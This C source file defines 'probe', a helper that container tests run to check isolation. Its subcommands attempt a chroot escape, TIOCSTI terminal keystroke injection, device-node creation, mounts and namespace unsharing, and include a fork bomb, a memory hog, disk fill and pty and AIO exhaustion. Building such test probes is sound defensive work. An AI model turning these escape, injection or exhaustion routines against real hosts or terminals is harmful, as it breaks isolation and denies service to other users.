/* probe: a tiny static multi-call program that tests run inside containers
 * (the habit of crun's tests/init.c).  `probe SUBCOMMAND ARGS...`; several
 * subcommands can be chained with a lone ";" argument and run like `a && b`.
 *
 * Output contract, so tests can parse it without a shell in the container:
 *   - a result line on stdout made of `key=value` tokens separated by spaces;
 *     values never contain spaces or control bytes (they are \xNN-escaped);
 *   - the first token of an operation's line is `SUBCOMMAND=ok` or
 *     `SUBCOMMAND=ERRNONAME` (EPERM, EDQUOT, ...);
 *   - exit status 0 if the operation succeeded (or the full amount was
 *     reached), 1 if it failed or a limit stopped it (one line on stderr says
 *     why), 2 for bad usage.
 * Attacks only ever *prove* access (open for writing, never write to a
 * victim's file), so a regression cannot damage the host it runs on.
 *
 * Build: gcc -static -O2 -Wall -Wextra -o probe probe.c   (libc only)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/btrfs.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define USAGE_ERROR 2
static const char *current = "probe"; /* subcommand name for messages */

/* ---- small helpers ---- */

static const char *errname(int err)
{
    const char *name = err ? strerrorname_np(err) : "ok";
    return name ? name : "EUNKNOWN";
}

/* stdout is often a pipe: write each line at once, unbuffered, so a process
 * killed by a limit still leaves everything it reported. */
static void out(const char *fmt, ...)
{
    char buf[8192];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if ((size_t)n >= sizeof buf)
        n = sizeof buf - 1;
    for (ssize_t off = 0, w; off < n; off += w) {
        w = write(1, buf + off, n - off);
        if (w <= 0)
            return;
    }
}

static int fail(const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    dprintf(2, "probe: %s: %s\n", current, buf);
    return 1;
}

/* The usual result of an attack-style call: `name=ok` or `name=ERRNO`. */
static int report(int rc, int err, const char *what)
{
    out("%s=%s\n", current, rc < 0 ? errname(err) : "ok");
    return rc < 0 ? fail("%s: %s", what, strerror(err)) : 0;
}

/* Escape for a one-token value: printable ASCII except space, quote, backslash. */
static void escape(const char *in, size_t len, char *dst, size_t cap)
{
    size_t o = 0;
    for (size_t i = 0; i < len && o + 5 < cap; i++) {
        unsigned char c = in[i];
        if (c > 0x20 && c < 0x7f && c != '\\' && c != '"')
            dst[o++] = c;
        else
            o += snprintf(dst + o, cap - o, "\\x%02x", c);
    }
    dst[o] = 0;
}

static int parse_long(const char *s, long *value)
{
    char *end;
    errno = 0;
    *value = strtol(s, &end, 0);
    return errno || end == s || *end ? -1 : 0;
}

static int parse_signal(const char *s)
{
    long n;
    if (parse_long(s, &n) == 0)
        return n >= 0 && n < NSIG ? (int)n : -1;
    if (strncasecmp(s, "SIG", 3) == 0)
        s += 3;
    for (int i = 1; i < NSIG; i++) {
        const char *abbrev = sigabbrev_np(i);
        if (abbrev && strcasecmp(abbrev, s) == 0)
            return i;
    }
    return -1;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_seconds(double seconds)
{
    struct timespec ts = {(time_t)seconds, (long)((seconds - (time_t)seconds) * 1e9)};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

static ssize_t read_file(const char *path, char *buf, size_t cap)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    size_t len = 0;
    ssize_t n;
    while (len + 1 < cap && (n = read(fd, buf + len, cap - 1 - len)) > 0)
        len += n;
    int err = errno;
    close(fd);
    errno = err;
    buf[len] = 0;
    return len;
}

/* ---- basic subcommands ---- */

static int cmd_true(int argc, char **argv) { (void)argc; (void)argv; return 0; }
static int cmd_false(int argc, char **argv) { (void)argc; (void)argv; return 1; }

static int cmd_echo(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        out("%s%s", argv[i], i + 1 < argc ? " " : "");
    out("\n");
    return 0;
}

static int cmd_sleep(int argc, char **argv)
{
    (void)argc;
    char *end;
    double seconds = strtod(argv[1], &end);
    if (*end || seconds < 0)
        return fail("not a number of seconds: %s", argv[1]), USAGE_ERROR;
    sleep_seconds(seconds);
    return 0;
}

static int cmd_exit(int argc, char **argv)
{
    long code;
    if (parse_long(argv[1], &code) < 0 || code < 0 || code > 255)
        return fail("not an exit status: %s", argv[1]), USAGE_ERROR;
    if (argc > 2)
        out("%s\n", argv[2]);
    return (int)code;
}

static int cmd_isatty(int argc, char **argv)
{
    (void)argc;
    long fd;
    if (parse_long(argv[1], &fd) < 0)
        return fail("not an fd: %s", argv[1]), USAGE_ERROR;
    if (!isatty((int)fd)) {
        int err = errno;
        out("%s=%s fd=%ld\n", current, errname(err), fd);
        return fail("fd %ld is not a terminal", fd);
    }
    out("%s=ok fd=%ld tty=%s\n", current, fd, ttyname((int)fd) ?: "?");
    return 0;
}

static int cmd_pid(int argc, char **argv)
{
    (void)argc; (void)argv;
    out("%s=%d ppid=%d sid=%d pgid=%d\n", current, getpid(), getppid(), getsid(0), getpgid(0));
    return 0;
}

static int cmd_hostname(int argc, char **argv)
{
    (void)argc; (void)argv;
    struct utsname u;
    uname(&u);
    out("%s=%s\n", current, u.nodename);
    return 0;
}

static int cmd_env(int argc, char **argv)
{
    (void)argc; (void)argv;
    for (char **e = environ; *e; e++)
        out("%s\n", *e);
    return 0;
}

static int cmd_getenv(int argc, char **argv)
{
    (void)argc;
    const char *value = getenv(argv[1]);
    if (!value)
        return fail("%s is not set", argv[1]);
    out("%s\n", value);
    return 0;
}

static int cmd_cat(int argc, char **argv)
{
    (void)argc;
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return fail("%s: %s", argv[1], errname(errno));
    char buf[65536];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0)
        if (write(1, buf, n) != n)
            break;
    int err = n < 0 ? errno : 0;
    close(fd);
    return err ? fail("%s: %s", argv[1], errname(err)) : 0;
}

/* One line: `read=ok bytes=N text=ESCAPED` (the first 4 KiB). */
static int cmd_read(int argc, char **argv)
{
    (void)argc;
    char text[4096], escaped[4 * sizeof text + 1];
    ssize_t n = read_file(argv[1], text, sizeof text);
    if (n < 0) {
        int err = errno;
        out("%s=%s\n", current, errname(err));
        return fail("%s: %s", argv[1], strerror(err));
    }
    escape(text, n, escaped, sizeof escaped);
    out("%s=ok bytes=%zd text=%s\n", current, n, escaped);
    return 0;
}

static int cmd_write(int argc, char **argv)
{
    (void)argc;
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0644);
    ssize_t n = fd < 0 ? -1 : write(fd, argv[2], strlen(argv[2]));
    int err = errno;
    if (fd >= 0)
        close(fd);
    out("%s=%s bytes=%zd\n", current, n < 0 ? errname(err) : "ok", n < 0 ? 0 : n);
    return n < 0 ? fail("%s: %s", argv[1], strerror(err)) : 0;
}

/* Open without truncating or writing: proves access to a file we must not damage. */
static int cmd_open(int argc, char **argv)
{
    (void)argc;
    int flags = !strcmp(argv[2], "r") ? O_RDONLY : !strcmp(argv[2], "w") ? O_WRONLY
              : !strcmp(argv[2], "rw") ? O_RDWR : -1;
    if (flags < 0)
        return fail("mode must be r, w or rw"), USAGE_ERROR;
    int fd = open(argv[1], flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    int err = errno;
    if (fd >= 0)
        close(fd);
    return report(fd, err, argv[1]);
}

static int cmd_readlink(int argc, char **argv)
{
    (void)argc;
    char target[4096], escaped[4 * sizeof target];
    ssize_t n = readlink(argv[1], target, sizeof target);
    if (n < 0) {
        int err = errno;
        out("%s=%s\n", current, errname(err));
        return fail("%s: %s", argv[1], strerror(err));
    }
    escape(target, n, escaped, sizeof escaped);
    out("%s=ok target=%s\n", current, escaped);
    return 0;
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

/* One line: `ls=ok entries=a,b,c` (sorted; commas in names escaped). */
static int cmd_ls(int argc, char **argv)
{
    (void)argc;
    struct dirent **entries;
    int n = scandir(argv[1], &entries, NULL, by_name);
    if (n < 0) {
        int err = errno;
        out("%s=%s\n", current, errname(err));
        return fail("%s: %s", argv[1], strerror(err));
    }
    out("%s=ok entries=", current);
    for (int i = 0, first = 1; i < n; i++) {
        const char *name = entries[i]->d_name;
        if (strcmp(name, ".") && strcmp(name, "..")) {
            char escaped[1200];
            escape(name, strlen(name), escaped, sizeof escaped);
            for (char *comma; (comma = strchr(escaped, ','));) /* the list separator */
                memmove(comma + 4, comma + 1, strlen(comma + 1) + 1), memcpy(comma, "\\x2c", 4);
            out("%s%s", first ? "" : ",", escaped);
            first = 0;
        }
        free(entries[i]);
    }
    out("\n");
    free(entries);
    return 0;
}

static const char *file_type(mode_t mode)
{
    switch (mode & S_IFMT) {
    case S_IFREG: return "file";
    case S_IFDIR: return "dir";
    case S_IFLNK: return "symlink";
    case S_IFCHR: return "char";
    case S_IFBLK: return "block";
    case S_IFIFO: return "fifo";
    case S_IFSOCK: return "socket";
    default: return "unknown";
    }
}

static int cmd_stat(int argc, char **argv)
{
    (void)argc;
    struct stat st;
    if (lstat(argv[1], &st) < 0) {
        int err = errno;
        out("%s=%s\n", current, errname(err));
        return fail("%s: %s", argv[1], strerror(err));
    }
    out("%s=ok type=%s mode=%04o uid=%u gid=%u size=%lld dev=%u:%u ino=%llu rdev=%u:%u\n", current,
        file_type(st.st_mode), st.st_mode & 07777, st.st_uid, st.st_gid, (long long)st.st_size,
        major(st.st_dev), minor(st.st_dev), (unsigned long long)st.st_ino, major(st.st_rdev), minor(st.st_rdev));
    return 0;
}

static int cmd_caps(int argc, char **argv)
{
    (void)argc; (void)argv;
    static const char *keys[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"};
    char status[16384];
    if (read_file("/proc/self/status", status, sizeof status) < 0)
        return fail("/proc/self/status: %s", errname(errno));
    for (size_t k = 0; k < sizeof keys / sizeof *keys; k++) {
        size_t len = strlen(keys[k]);
        for (char *line = status; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
            if (!strncmp(line, keys[k], len) && line[len] == ':') {
                char *value = line + len + 1;
                value += strspn(value, " \t");
                out("%s%s=%.*s", k ? " " : "", keys[k], (int)strcspn(value, "\n"), value);
            }
        }
    }
    out("\n");
    return 0;
}

static int cmd_uid(int argc, char **argv)
{
    (void)argc; (void)argv;
    gid_t groups[64];
    int n = getgroups(64, groups);
    out("%s=%u euid=%u gid=%u egid=%u groups=", current, getuid(), geteuid(), getgid(), getegid());
    for (int i = 0; i < n; i++)
        out("%s%u", i ? "," : "", groups[i]);
    out("\n");
    return 0;
}

/* ---- resource hogs: report as they go, so a kill by a limit still tells how far they got ---- */

static int cmd_memhog(int argc, char **argv)
{
    (void)argc;
    long mb;
    if (parse_long(argv[1], &mb) < 0 || mb < 0)
        return fail("not a size in MB: %s", argv[1]), USAGE_ERROR;
    long done = 0;
    for (; done < mb; done++) {
        char *chunk = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (chunk == MAP_FAILED) {
            int err = errno;
            out("%s=%s mb=%ld\n", current, errname(err), done);
            return fail("mmap after %ld MB: %s", done, strerror(err));
        }
        memset(chunk, 0x5a, 1 << 20); /* touch every page: charged to the memory cgroup */
        if (done % 16 == 15)
            out("progress mb=%ld\n", done + 1);
    }
    out("%s=ok mb=%ld\n", current, done);
    return 0;
}

static int cmd_forkbomb(int argc, char **argv)
{
    long wanted, hold = 0;
    if (parse_long(argv[1], &wanted) < 0 || wanted < 0 || (argc > 2 && parse_long(argv[2], &hold) < 0))
        return fail("usage: forkbomb N [HOLD_SECONDS]"), USAGE_ERROR;
    pid_t *children = calloc(wanted + 1, sizeof *children);
    pid_t parent = getpid();
    long forked = 0;
    int err = 0;
    for (; forked < wanted; forked++) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            /* Children sleep until the parent goes, however it goes. */
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != parent)
                _exit(0);
            for (;;)
                pause();
        }
        children[forked] = pid;
    }
    out("%s=%s forked=%ld wanted=%ld\n", current, errname(err), forked, wanted);
    if (hold > 0)
        sleep_seconds(hold);
    for (long i = 0; i < forked; i++)
        kill(children[i], SIGKILL);
    for (long i = 0; i < forked; i++)
        waitpid(children[i], NULL, 0);
    free(children);
    return err ? fail("fork %ld of %ld: %s", forked + 1, wanted, strerror(err)) : 0;
}

/* Incompressible data, so a compressing filesystem cannot make a filler cheap. */
static void random_fill(uint64_t *buf, size_t words, uint64_t *state)
{
    for (size_t i = 0; i < words; i++) {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        buf[i] = *state;
    }
}

static int fill(const char *path, long mb)
{
    enum { CHUNK = 1 << 20 };
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0644);
    if (fd < 0) {
        int err = errno;
        out("%s=%s bytes=0\n", current, errname(err));
        return fail("%s: %s", path, strerror(err));
    }
    uint64_t *buf = malloc(CHUNK), state = 0x9e3779b97f4a7c15ull ^ (uint64_t)getpid();
    long long written = 0;
    int err = 0;
    while (!err && written < (long long)mb * CHUNK) {
        random_fill(buf, CHUNK / sizeof *buf, &state);
        for (size_t off = 0; off < CHUNK;) {
            ssize_t n = write(fd, (char *)buf + off, CHUNK - off);
            if (n < 0 && errno == EINTR)
                continue;
            if (n <= 0) {
                err = n < 0 ? errno : ENOSPC;
                break;
            }
            off += n;
            written += n;
        }
        if (written % (64LL * CHUNK) == 0)
            out("progress bytes=%lld\n", written);
    }
    /* Quota and space errors may surface only when the data reaches the disk. */
    if (!err && fsync(fd) < 0)
        err = errno;
    if (close(fd) < 0 && !err)
        err = errno;
    free(buf);
    out("%s=%s bytes=%lld\n", current, errname(err), written);
    return err ? fail("%s after %lld bytes: %s", path, written, strerror(err)) : 0;
}

static int cmd_fill(int argc, char **argv)
{
    (void)argc;
    long mb;
    if (parse_long(argv[2], &mb) < 0 || mb < 0)
        return fail("not a size in MB: %s", argv[2]), USAGE_ERROR;
    return fill(argv[1], mb);
}

static int cmd_tmpfill(int argc, char **argv)
{
    long mb;
    if (parse_long(argv[1], &mb) < 0 || mb < 0)
        return fail("not a size in MB: %s", argv[1]), USAGE_ERROR;
    char path[4096];
    snprintf(path, sizeof path, "%s/probe-fill-%d", argc > 2 ? argv[2] : "/tmp", getpid());
    return fill(path, mb);
}

/* ---- what a container must not be able to do ---- */

/* Operations that change the process itself (its root, its namespaces) run in a
 * child, so that later subcommands of a chain run unchanged. */
static int in_child(int (*body)(int argc, char **argv), int argc, char **argv)
{
    pid_t pid = fork();
    if (pid < 0)
        return fail("fork: %s", strerror(errno));
    if (pid == 0)
        _exit(body(argc, argv));
    int status;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
        ;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* The classic chroot escape (chroot into a subdirectory, climb out with "..",
 * chroot there), then: does PATH exist where we ended up? */
static int chroot_escape(int argc, char **argv)
{
    (void)argc;
    mkdir("/tmp/probe-jail", 0755);
    if (chroot("/tmp/probe-jail") < 0)
        return report(-1, errno, "chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0) {}
    if (chroot(".") < 0)
        return report(-1, errno, "chroot .");
    struct stat st;
    int rc = lstat(argv[1], &st), err = errno;
    out("%s=ok path=%s\n", current, rc < 0 ? errname(err) : "exists");
    return 0;
}

static int cmd_chroot_escape(int argc, char **argv) { return in_child(chroot_escape, argc, argv); }

static int cmd_io_uring(int argc, char **argv)
{
    (void)argc; (void)argv;
    struct io_uring_params params = {0};
    long fd = syscall(SYS_io_uring_setup, 4, &params);
    int err = errno;
    if (fd >= 0)
        close((int)fd);
    return report(fd < 0 ? -1 : 0, err, "io_uring_setup");
}

/* Pseudo-terminals come out of one budget for all containers (kernel.pty.max less the host's reserve). */
static int cmd_ptys(int argc, char **argv)
{
    long hold = 0;
    if (argc > 1 && parse_long(argv[1], &hold) < 0)
        return fail("usage: ptys [HOLD_SECONDS]"), USAGE_ERROR;
    int count = 0;
    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) /* kept open: the point is to hold them */
        count++;
    int err = errno;
    out("count=%d\n", count);
    report(-1, err, "open /dev/ptmx");
    sleep_seconds(hold);
    return 0;
}

/* Linux AIO contexts come out of one host-wide budget (fs.aio-max-nr): one io_setup can take it all. */
static int cmd_aio(int argc, char **argv)
{
    (void)argc; (void)argv;
    unsigned long ctx = 0;
    long rc = syscall(SYS_io_setup, 65536, &ctx);
    int err = errno;
    if (rc == 0)
        syscall(SYS_io_destroy, ctx);
    return report(rc < 0 ? -1 : 0, err, "io_setup");
}

static int cmd_mknod(int argc, char **argv)
{
    (void)argc;
    long maj, min;
    if ((strcmp(argv[2], "b") && strcmp(argv[2], "c")) || parse_long(argv[3], &maj) < 0 || parse_long(argv[4], &min) < 0)
        return fail("usage: mknod PATH b|c MAJOR MINOR"), USAGE_ERROR;
    mode_t type = argv[2][0] == 'b' ? S_IFBLK : S_IFCHR;
    int rc = mknod(argv[1], type | 0600, makedev(maj, min));
    return report(rc, errno, argv[1]);
}

/* A subvolume made inside a container would leave the container's quota group. */
static int cmd_btrfs_subvol(int argc, char **argv)
{
    (void)argc;
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0)
        return fail("%s: %s", argv[1], errname(errno));
    struct btrfs_ioctl_vol_args v1 = {0};
    struct btrfs_ioctl_vol_args_v2 v2 = {0};
    snprintf(v1.name, sizeof v1.name, "%s", argv[2]);
    snprintf(v2.name, sizeof v2.name, "%s-v2", argv[2]);
    int rc1 = ioctl(dir, BTRFS_IOC_SUBVOL_CREATE, &v1), err1 = errno;
    int rc2 = ioctl(dir, BTRFS_IOC_SUBVOL_CREATE_V2, &v2), err2 = errno;
    close(dir);
    out("%s=%s v2=%s\n", current, rc1 < 0 ? errname(err1) : "ok", rc2 < 0 ? errname(err2) : "ok");
    if (rc1 == 0 || rc2 == 0)
        return 0;
    return fail("BTRFS_IOC_SUBVOL_CREATE: %s, _V2: %s", strerror(err1), strerror(err2));
}

static int cmd_btrfs_snap(int argc, char **argv)
{
    (void)argc;
    int src = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int dir = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (src < 0 || dir < 0)
        return fail("%s: %s", src < 0 ? argv[1] : argv[2], errname(errno));
    struct btrfs_ioctl_vol_args v1 = {.fd = src};
    struct btrfs_ioctl_vol_args_v2 v2 = {.fd = src};
    snprintf(v1.name, sizeof v1.name, "%s", argv[3]);
    snprintf(v2.name, sizeof v2.name, "%s-v2", argv[3]);
    int rc1 = ioctl(dir, BTRFS_IOC_SNAP_CREATE, &v1), err1 = errno;
    int rc2 = ioctl(dir, BTRFS_IOC_SNAP_CREATE_V2, &v2), err2 = errno;
    close(src);
    close(dir);
    out("%s=%s v2=%s\n", current, rc1 < 0 ? errname(err1) : "ok", rc2 < 0 ? errname(err2) : "ok");
    if (rc1 == 0 || rc2 == 0)
        return 0;
    return fail("BTRFS_IOC_SNAP_CREATE: %s, _V2: %s", strerror(err1), strerror(err2));
}

static int cmd_mount_test(int argc, char **argv)
{
    const char *dir = argc > 1 ? argv[1] : "/tmp/probe-mnt";
    mkdir(dir, 0755);
    int rc = mount("probe-mount", dir, "tmpfs", 0, "size=1m");
    int err = errno;
    if (rc == 0)
        umount2(dir, MNT_DETACH);
    return report(rc, err, "mount tmpfs");
}

static int unshare_user(int argc, char **argv)
{
    (void)argc; (void)argv;
    if (unshare(CLONE_NEWUSER) < 0)
        return report(-1, errno, "unshare(CLONE_NEWUSER)");
    /* In a new user namespace we hold every capability: can they mount? */
    int rc = unshare(CLONE_NEWNS);
    int err = errno;
    out("%s=ok mountns=%s\n", current, rc < 0 ? errname(err) : "ok");
    return 0;
}

static int cmd_unshare_user(int argc, char **argv) { return in_child(unshare_user, argc, argv); }

/* ---- network ---- */

static int socket_address(const char *host, const char *port, struct sockaddr_storage *addr, socklen_t *len)
{
    long p;
    if (parse_long(port, &p) < 0 || p <= 0 || p > 65535)
        return -1;
    struct sockaddr_in *v4 = (struct sockaddr_in *)addr;
    struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)addr;
    memset(addr, 0, sizeof *addr);
    if (inet_pton(AF_INET, host, &v4->sin_addr) == 1) {
        v4->sin_family = AF_INET;
        v4->sin_port = htons(p);
        *len = sizeof *v4;
        return 0;
    }
    if (inet_pton(AF_INET6, host, &v6->sin6_addr) == 1) {
        v6->sin6_family = AF_INET6;
        v6->sin6_port = htons(p);
        *len = sizeof *v6;
        return 0;
    }
    return -1;
}

/* "\n" and "\r" in a text argument become the bytes, for line protocols and HTTP. */
static size_t unescape(const char *in, char *dst, size_t cap)
{
    size_t o = 0;
    for (; *in && o + 1 < cap; in++) {
        if (in[0] == '\\' && (in[1] == 'n' || in[1] == 'r')) {
            dst[o++] = *++in == 'n' ? '\n' : '\r';
        } else {
            dst[o++] = *in;
        }
    }
    return o;
}

static int cmd_connect(int argc, char **argv)
{
    struct sockaddr_storage addr;
    socklen_t len;
    if (socket_address(argv[1], argv[2], &addr, &len) < 0)
        return fail("need a literal IP address and a port, not %s %s", argv[1], argv[2]), USAGE_ERROR;
    int timeout_ms = 3000;
    int fd = socket(addr.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return report(-1, errno, "socket");
    int rc = connect(fd, (struct sockaddr *)&addr, len), err = errno;
    if (rc < 0 && err == EINPROGRESS) {
        struct pollfd p = {fd, POLLOUT, 0};
        socklen_t errlen = sizeof err;
        rc = poll(&p, 1, timeout_ms);
        if (rc == 0)
            err = ETIMEDOUT, rc = -1;
        else if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &errlen) < 0 || err)
            rc = -1;
    }
    if (rc < 0) {
        close(fd);
        out("%s=%s\n", current, errname(err));
        return fail("%s port %s: %s", argv[1], argv[2], strerror(err));
    }
    if (argc > 3) {
        char text[4096];
        size_t n = unescape(argv[3], text, sizeof text);
        if (send(fd, text, n, MSG_NOSIGNAL) < 0) {} /* what the peer answers is the result */
    }
    char buf[4096], escaped[4 * sizeof buf + 1];
    size_t got = 0;
    struct pollfd p = {fd, POLLIN, 0};
    while (got < sizeof buf && poll(&p, 1, got ? 300 : timeout_ms) > 0) {
        ssize_t n = read(fd, buf + got, sizeof buf - got);
        if (n <= 0)
            break;
        got += n;
    }
    close(fd);
    escape(buf, got, escaped, sizeof escaped);
    out("%s=ok read=%s\n", current, escaped);
    return 0;
}

/* A TCP service: answer every connection with TEXT and a newline, then close (forever, or COUNT times). */
static int cmd_serve(int argc, char **argv)
{
    long port, count = -1;
    if (parse_long(argv[1], &port) < 0 || port <= 0 || port > 65535 || (argc > 3 && parse_long(argv[3], &count) < 0))
        return fail("usage: serve PORT TEXT [COUNT]"), USAGE_ERROR;
    int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0), off = 0, on = 1;
    int family = AF_INET6;
    if (fd < 0) { /* no IPv6 in this namespace */
        fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        family = AF_INET;
    }
    struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons(port), .sin6_addr = IN6ADDR_ANY_INIT};
    struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_ANY)};
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (family == AF_INET6)
        setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off); /* IPv4 too */
    int rc = family == AF_INET6 ? bind(fd, (struct sockaddr *)&v6, sizeof v6) : bind(fd, (struct sockaddr *)&v4, sizeof v4);
    if (rc < 0 || listen(fd, 64) < 0)
        return report(-1, errno, "bind/listen");
    signal(SIGPIPE, SIG_IGN);
    out("%s=ready port=%ld\n", current, port);
    char text[4096];
    size_t len = unescape(argv[2], text, sizeof text - 1);
    text[len++] = '\n';
    for (long served = 0; count < 0 || served < count; served++) {
        int client = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
        if (client < 0)
            continue;
        if (send(client, text, len, MSG_NOSIGNAL) < 0) {}
        close(client);
    }
    close(fd);
    return 0;
}

static int cmd_udp_send(int argc, char **argv)
{
    (void)argc;
    struct sockaddr_storage addr;
    socklen_t len;
    if (socket_address(argv[1], argv[2], &addr, &len) < 0)
        return fail("need a literal IP address and a port, not %s %s", argv[1], argv[2]), USAGE_ERROR;
    int fd = socket(addr.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    ssize_t n = fd < 0 ? -1 : sendto(fd, argv[3], strlen(argv[3]), 0, (struct sockaddr *)&addr, len);
    int err = errno;
    if (fd >= 0)
        close(fd);
    return report(n < 0 ? -1 : 0, err, "sendto");
}

/* ---- the operator's terminal and process group ---- */

static int cmd_kill0(int argc, char **argv)
{
    (void)argc;
    int sig = parse_signal(argv[1]);
    if (sig < 0)
        return fail("unknown signal %s", argv[1]), USAGE_ERROR;
    /* Said first: with SIGKILL the caller learns which group was hit only from this line. */
    out("kill0 sig=%s pid=%d pgid=%d sid=%d\n", sig ? sigabbrev_np(sig) ?: "?" : "0", getpid(), getpgid(0), getsid(0));
    signal(sig, SIG_IGN); /* survive our own signal where possible, to say what happened */
    return report(kill(0, sig), errno, "kill(0)");
}

static int cmd_tiocsti(int argc, char **argv)
{
    (void)argc;
    char text[4096];
    size_t len = unescape(argv[1], text, sizeof text), injected = 0;
    for (const char *c = text; c < text + len; c++, injected++) {
        if (ioctl(0, TIOCSTI, c) < 0) {
            int err = errno;
            out("%s=%s injected=%zu\n", current, errname(err), injected);
            return fail("ioctl(0, TIOCSTI): %s", strerror(err));
        }
    }
    out("%s=ok injected=%zu\n", current, injected);
    return 0;
}

/* Whose terminal and session is this?  An exec'd process must lead its own. */
static int cmd_setsid_check(int argc, char **argv)
{
    (void)argc; (void)argv;
    pid_t pid = getpid(), sid = getsid(0), pgid = getpgid(0);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    int tty_err = errno;
    pid_t tty_sid = tty >= 0 ? tcgetsid(tty) : -1, tty_pgrp = tty >= 0 ? tcgetpgrp(tty) : -1;
    if (tty >= 0)
        close(tty);
    out("%s=%s pid=%d sid=%d pgid=%d session_leader=%d group_leader=%d ctty=%s ctty_sid=%d ctty_pgrp=%d\n", current,
        sid == pid && pgid == pid ? "ok" : "shared", pid, sid, pgid, sid == pid, pgid == pid,
        tty >= 0 ? "yes" : errname(tty_err), tty_sid, tty_pgrp);
    return sid == pid && pgid == pid ? 0 : fail("not the leader of its own session and process group");
}

/* ---- services for lifecycle tests ---- */

static void log_signal(int sig)
{
    char line[64];
    int n = snprintf(line, sizeof line, "signal=%s\n", sigabbrev_np(sig) ?: "?");
    if (write(1, line, n) < 0) {}
}

static int set_signals(const char *list, void (*handler)(int))
{
    if (!strcmp(list, "-"))
        return 0;
    char copy[512];
    snprintf(copy, sizeof copy, "%s", list);
    for (char *save, *name = strtok_r(copy, ",", &save); name; name = strtok_r(NULL, ",", &save)) {
        int sig = parse_signal(name);
        if (sig < 0)
            return fail("unknown signal %s", name);
        struct sigaction sa = {.sa_handler = handler, .sa_flags = SA_RESTART};
        sigaction(sig, &sa, NULL);
    }
    return 0;
}

static int cmd_signals(int argc, char **argv)
{
    if (set_signals(argv[1], log_signal) || (argc > 2 && set_signals(argv[2], SIG_IGN)))
        return USAGE_ERROR;
    out("%s=ready pid=%d\n", current, getpid());
    for (;;)
        pause();
}

/* CHILDREN sleeping processes, then a counter written to FILE every 20 ms (freeze tests). */
static int cmd_ticker(int argc, char **argv)
{
    long children = 0;
    if (argc > 2 && (parse_long(argv[2], &children) < 0 || children < 0))
        return fail("not a number: %s", argv[2]), USAGE_ERROR;
    pid_t parent = getpid();
    for (long i = 0; i < children; i++) {
        pid_t pid = fork();
        if (pid < 0)
            return fail("fork: %s", strerror(errno));
        if (pid == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != parent)
                _exit(0);
            for (;;)
                pause();
        }
    }
    for (unsigned long n = 1;; n++) {
        char path[4096], text[32];
        snprintf(path, sizeof path, "%s.new", argv[1]);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0)
            return fail("%s: %s", path, strerror(errno));
        int len = snprintf(text, sizeof text, "%lu\n", n);
        if (write(fd, text, len) != len) {}
        close(fd);
        rename(path, argv[1]); /* readers never see a half-written number */
        sleep_seconds(0.02);
    }
}

